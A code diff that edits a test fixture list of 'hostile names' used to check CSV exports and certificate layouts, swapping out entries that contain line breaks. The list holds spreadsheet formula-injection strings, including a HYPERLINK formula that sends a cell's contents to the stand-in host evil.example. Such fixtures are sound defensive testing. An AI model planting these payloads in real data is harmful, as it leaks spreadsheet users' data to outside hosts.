@@ -218,13 +218,16 @@ export const EXTRA_COUNTRIES: readonly { country: string; language: string }[] =
   { country: 'NO', language: 'en' },
 ]
 
-/** Names that have broken CSV exports and certificate layouts elsewhere: use them in tests. */
+/**
+ * Names that have broken CSV exports and certificate layouts elsewhere: use them in tests. No
+ * control characters (line breaks included): the record schema refuses those (`safeText`).
+ */
 export const HOSTILE_NAMES: readonly string[] = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
   '+1',
   '-2',
   '@SUM(A1:A9)',
-  '=1+1\n=2+2',
+  '=1+1;=2+2',
   'Comma, Semicolon; "Quote"',
-  'Line\nBreak',
+  '"Quoted" ""twice""',
 ]
